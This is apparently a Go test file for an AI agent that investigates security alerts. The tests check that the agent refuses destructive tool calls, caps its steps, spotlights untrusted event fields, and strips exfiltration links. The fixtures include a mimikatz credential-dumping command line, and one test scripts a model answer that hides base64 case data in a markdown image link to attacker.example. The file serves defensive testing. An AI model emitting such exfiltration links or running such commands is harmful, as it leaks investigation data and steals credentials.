package agent_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/alert"
	"github.com/bulwarkhq/bulwark/copilot"
	"github.com/bulwarkhq/bulwark/copilot/agent"
	"github.com/bulwarkhq/bulwark/copilot/spotlight"
	"github.com/bulwarkhq/bulwark/event"
	"github.com/bulwarkhq/bulwark/guard/standard"
	"github.com/bulwarkhq/bulwark/store"
)

var base = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

// seedCase stores a small credential-dumping case: three events on ws01
// (mimikatz by bob from 10.0.0.5, a logon, a note in a field outside the
// allow-list), one alert and one case. It returns the case.
func seedCase(t testing.TB, st store.Store) store.Case {
	t.Helper()
	ctx := context.Background()
	mk := func(offset time.Duration, fields ...string) event.Event {
		e := event.Event{Time: base.Add(offset)}
		e.Add("Computer", event.String("ws01"))
		for i := 0; i+1 < len(fields); i += 2 {
			e.Add(fields[i], event.String(fields[i+1]))
		}
		return e
	}
	first, err := st.AppendEvents(ctx, []event.Event{
		mk(0, "EventID", "1", "Image", `C:\Tools\mimikatz.exe`, "CommandLine", `mimikatz.exe "sekurlsa::logonpasswords" exit`, "User", `CORP\bob`, "ScriptBlockText", "outside-the-allow-list"),
		mk(-time.Hour, "EventID", "4624", "TargetUserName", "bob", "IpAddress", "10.0.0.5", "LogonType", "10"),
		mk(-2*time.Hour, "EventID", "4688", "NewProcessName", `C:\Windows\System32\whoami.exe`, "SubjectUserName", "alice"),
	})
	if err != nil {
		t.Fatal(err)
	}
	alerts := []store.StoredAlert{{EventID: first, Alert: alert.Alert{
		Rule: alert.Rule{ID: "r-mimi", Title: "Mimikatz use", Level: "high", Attack: []string{"T1003.001"}},
		Time: base, Host: "ws01", EventID: "1",
		Matches:  []alert.Match{{Field: "Image", Value: `C:\Tools\mimikatz.exe`}},
		Entities: map[string]string{"user": `CORP\bob`, "src_ip": "10.0.0.5"},
	}}}
	if err := st.AddAlerts(ctx, alerts, first+2); err != nil {
		t.Fatal(err)
	}
	c := store.Case{Title: "Credential dumping on ws01", Status: "new", Severity: "high", Score: 80, AlertIDs: []int64{alerts[0].ID},
		RuleIDs: []string{"r-mimi"}, Entities: map[string]string{"host": "ws01", "user": `CORP\bob`}, FirstSeen: base, LastSeen: base}
	if err := st.CreateCase(ctx, &c); err != nil {
		t.Fatal(err)
	}
	return c
}

func newAgent(t testing.TB, p copilot.Provider, st store.Store, mod func(*agent.Config)) *agent.Agent {
	t.Helper()
	g, err := standard.New(standard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := agent.Config{
		Provider:  p,
		Backend:   agent.NewStoreBackend(writeFailingStore{Store: st, t: t}, testRules, testKB(t)),
		Spotlight: spotlight.New(spotlight.Options{Guard: g, Marker: func() string { return "ˆM" }}),
	}
	if mod != nil {
		mod(&cfg)
	}
	a, err := agent.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestInvestigateMultiStep(t *testing.T) {
	st := openStore(t)
	c := seedCase(t, st)
	alertID := c.AlertIDs[0]
	var seen []string
	p := &scripted{turns: []turnFunc{
		calls(call("c1", agent.ToolSearchEvents, map[string]any{"query": "Image:*mimikatz*", "limit": 5})),
		func(req copilot.Request) (copilot.Message, error) {
			seen = append(seen, lastToolResult(req))
			return copilot.Message{ToolCalls: []copilot.ToolCall{call("c2", agent.ToolGetAlert, map[string]any{"id": alertID})}}, nil
		},
		func(req copilot.Request) (copilot.Message, error) {
			seen = append(seen, lastToolResult(req))
			return copilot.Message{Content: "Looking up the technique.", ToolCalls: []copilot.ToolCall{call("c3", agent.ToolAttackLookup, map[string]any{"id": "T1003.001"})}}, nil
		},
		func(req copilot.Request) (copilot.Message, error) {
			seen = append(seen, lastToolResult(req))
			return copilot.Message{Content: fmt.Sprintf("bob ran mimikatz on ws01 (alert:%d): LSASS memory dumping.", alertID)}, nil
		},
	}}
	res, err := newAgent(t, p, st, nil).Investigate(context.Background(), agent.Task{Question: "What happened on ws01?"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Answer, "mimikatz on ws01") || res.Transcript.Turns != 4 || len(res.Transcript.Steps) != 3 {
		t.Fatalf("result = %+v", res)
	}
	for i, want := range []string{agent.ToolSearchEvents, agent.ToolGetAlert, agent.ToolAttackLookup} {
		st := res.Transcript.Steps[i]
		if st.Tool != want || st.Refused || st.Error != "" || st.ResultBytes == 0 || st.Turn != i+1 {
			t.Errorf("step %d = %+v, want %s run", i, st, want)
		}
	}
	if !strings.Contains(seen[0], `Image: ˆMC:\Tools\mimikatz.exeˆM`) || strings.Contains(seen[0], "outside-the-allow-list") {
		t.Errorf("search result not spotlighted:\n%s", seen[0])
	}
	if !strings.Contains(seen[1], "[alert:") || !strings.Contains(seen[1], "ˆMMimikatzˆMuseˆM") {
		t.Errorf("alert result:\n%s", seen[1])
	}
	if !strings.Contains(seen[2], "ˆMLSASSˆMMemoryˆM") || !strings.Contains(seen[2], "M1043") {
		t.Errorf("technique result:\n%s", seen[2])
	}
	for _, req := range p.requests {
		if req.Feature != agent.Feature || len(req.Tools) != len(agent.DefaultTools)+1 {
			t.Errorf("request feature %q with %d tools", req.Feature, len(req.Tools))
		}
	}
	if res.Spotlight.Sent == 0 || len(res.Spotlight.Dropped) == 0 {
		t.Errorf("spotlight report = %+v", res.Spotlight)
	}
}

func TestInvestigateStepLimit(t *testing.T) {
	st := openStore(t)
	seedCase(t, st)
	p := &scripted{turns: []turnFunc{func(req copilot.Request) (copilot.Message, error) {
		if len(req.Tools) == 0 {
			return copilot.Message{Content: "Out of steps: mimikatz ran.", ToolCalls: []copilot.ToolCall{call("x", agent.ToolGetCase, map[string]any{"id": 1})}}, nil
		}
		return copilot.Message{ToolCalls: []copilot.ToolCall{call("s", agent.ToolSearchEvents, map[string]any{"query": "EventID:4624"})}}, nil
	}}}
	res, err := newAgent(t, p, st, func(c *agent.Config) { c.MaxSteps = 3 }).Investigate(context.Background(), agent.Task{Question: "hunt"})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Transcript.StepLimitReached || res.Transcript.Turns != 4 || len(res.Transcript.Steps) != 3 || res.Answer != "Out of steps: mimikatz ran." || res.Note == "" {
		t.Errorf("result = %+v", res)
	}
	last := p.requests[len(p.requests)-1]
	if len(last.Tools) != 0 || !strings.Contains(last.Messages[len(last.Messages)-1].Content, "step limit") {
		t.Errorf("final request still offers tools or does not say why: %+v", last.Messages[len(last.Messages)-1])
	}
}

func TestInvestigateRefusesAndProposes(t *testing.T) {
	st := openStore(t)
	c := seedCase(t, st)
	var many []copilot.ToolCall
	for i := range 9 {
		many = append(many, call(fmt.Sprintf("m%d", i), agent.ToolRuleLookup, map[string]any{"id": "r-mimi"}))
	}
	var results []string
	p := &scripted{turns: []turnFunc{
		calls(
			call("a", "delete_case", map[string]any{"id": c.ID}),
			call("b", "close_case", map[string]any{"id": c.ID, "verdict": "false-positive"}),
			call("c", agent.ToolProposeAction, map[string]any{"action": "isolate_host", "target": "ws01", "reason": "mimikatz ran"}),
			call("d", agent.ToolIndicatorLookup, map[string]any{"indicator": "10.0.0.5"}),
			call("e", agent.ToolEntityTimeline, map[string]any{"kind": "user", "value": "bob", "around": base.Format(time.RFC3339), "hours": 3}),
		),
		func(req copilot.Request) (copilot.Message, error) {
			for _, m := range req.Messages {
				if m.Role == copilot.RoleTool {
					results = append(results, m.Content)
				}
			}
			return copilot.Message{ToolCalls: many}, nil
		},
		answer("done"),
	}}
	res, err := newAgent(t, p, st, func(c *agent.Config) {
		c.Tools = []string{agent.ToolIndicatorLookup, agent.ToolEntityTimeline, agent.ToolRuleLookup}
	}).
		Investigate(context.Background(), agent.Task{Question: "close it"})
	if err != nil {
		t.Fatal(err)
	}
	steps := res.Transcript.Steps
	if len(steps) != 14 {
		t.Fatalf("steps = %+v", steps)
	}
	for i, want := range []bool{true, true, false, false, false} {
		if steps[i].Refused != want {
			t.Errorf("step %d %s refused=%v, want %v", i, steps[i].Tool, steps[i].Refused, want)
		}
	}
	if !strings.HasPrefix(results[0], "refused:") || results[2] != agent.Proposed || results[3] != agent.NoIntel {
		t.Errorf("results = %q", results[:4])
	}
	if !strings.Contains(results[4], "[alert:") || !strings.Contains(results[4], "ˆMbobˆM") || !strings.Contains(results[4], "events: ˆM2ˆM") {
		t.Errorf("timeline = %s", results[4])
	}
	if len(res.Proposals) != 1 || res.Proposals[0] != (agent.Proposal{Action: "isolate_host", Target: "ws01", Reason: "mimikatz ran", Turn: 1}) {
		t.Errorf("proposals = %+v", res.Proposals)
	}
	if !steps[13].Refused || steps[12].Refused {
		t.Errorf("the ninth call of a turn should be refused, the eighth run: %+v %+v", steps[12], steps[13])
	}
	if got, err := st.GetCase(context.Background(), c.ID); err != nil || got.Status != "new" {
		t.Errorf("case changed: %+v %v", got, err)
	}
}

func TestInvestigateProviderError(t *testing.T) {
	st := openStore(t)
	seedCase(t, st)
	p := &scripted{turns: []turnFunc{
		calls(call("s", agent.ToolSearchEvents, map[string]any{"query": "EventID:("})),
		func(copilot.Request) (copilot.Message, error) { return copilot.Message{}, copilot.ErrBudget },
	}}
	res, err := newAgent(t, p, st, nil).Investigate(context.Background(), agent.Task{Question: "q"})
	if !errors.Is(err, copilot.ErrBudget) {
		t.Fatalf("err = %v", err)
	}
	if len(res.Transcript.Steps) != 1 || !strings.Contains(res.Transcript.Steps[0].Error, "does not parse") {
		t.Errorf("transcript = %+v", res.Transcript)
	}
}

func TestInvestigateWithholdsExfiltration(t *testing.T) {
	st := openStore(t)
	seedCase(t, st)
	p := &scripted{turns: []turnFunc{answer("Done. ![x](https://attacker.example/c?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2FzZQ)")}}
	res, err := newAgent(t, p, st, nil).Investigate(context.Background(), agent.Task{Question: "q"})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(res.Answer, "attacker.example") || res.Note == "" {
		t.Errorf("answer = %q note %q", res.Answer, res.Note)
	}
}

func TestNewValidates(t *testing.T) {
	st := openStore(t)
	b := agent.NewStoreBackend(st, nil, nil)
	p := &scripted{}
	for _, tc := range []struct {
		name string
		cfg  agent.Config
	}{
		{"no provider", agent.Config{Backend: b}},
		{"no backend", agent.Config{Provider: p}},
		{"unknown tool", agent.Config{Provider: p, Backend: b, Tools: []string{"delete_case"}}},
	} {
		if _, err := agent.New(tc.cfg); err == nil {
			t.Errorf("%s: no error", tc.name)
		}
	}
	a, err := agent.New(agent.Config{Provider: p, Backend: b, Tools: []string{}})
	if err != nil || strings.Join(a.Tools(), ",") != agent.ToolProposeAction {
		t.Errorf("empty allow-list: tools %v, err %v", a.Tools(), err)
	}
}

func TestIDArguments(t *testing.T) {
	st := openStore(t)
	c := seedCase(t, st)
	id := c.AlertIDs[0]
	args := []any{id, fmt.Sprint(id), fmt.Sprintf("alert:%d", id), " 0 ", "x", -1, 1.5, nil}
	var turn []copilot.ToolCall
	for i, a := range args {
		turn = append(turn, call(fmt.Sprint(i), agent.ToolGetAlert, map[string]any{"id": a}))
	}
	p := &scripted{turns: []turnFunc{calls(turn[:4]...), calls(turn[4:]...), answer("ok")}}
	res, err := newAgent(t, p, st, nil).Investigate(context.Background(), agent.Task{Question: "q"})
	if err != nil {
		t.Fatal(err)
	}
	for i, step := range res.Transcript.Steps {
		if wantOK := i < 3; (step.Error == "") != wantOK {
			t.Errorf("id %v: error %q", args[i], step.Error)
		}
	}
}

func TestStoreBackendTimeline(t *testing.T) {
	st := openStore(t)
	seedCase(t, st)
	b := agent.NewStoreBackend(st, testRules, nil)
	ctx := context.Background()
	for _, tc := range []struct {
		kind, value    string
		alerts, events int
	}{
		{agent.EntityHost, "ws01", 1, 3},
		{agent.EntityHost, "WS01", 0, 0}, // hosts are exact, as in search
		{agent.EntityUser, "bob", 1, 2},
		{agent.EntityUser, `corp\BOB`, 1, 2},
		{agent.EntityUser, "alice", 0, 1},
		{agent.EntityIP, "10.0.0.5", 1, 1},
	} {
		tl, err := b.EntityTimeline(ctx, tc.kind, tc.value, base.Add(-3*time.Hour), base.Add(time.Hour), 10)
		if err != nil {
			t.Fatal(err)
		}
		if len(tl.Alerts) != tc.alerts || len(tl.Events) != tc.events {
			t.Errorf("%s %s: %d alerts %d events, want %d %d", tc.kind, tc.value, len(tl.Alerts), len(tl.Events), tc.alerts, tc.events)
		}
	}
	if _, err := b.EntityTimeline(ctx, "file", "x", base, base, 1); err == nil {
		t.Error("unknown kind: no error")
	}
	if _, err := b.Technique(ctx, "T1003"); err == nil {
		t.Error("no KB: no error")
	}
	if _, err := b.Rule(ctx, "nope"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("unknown rule: %v", err)
	}
}
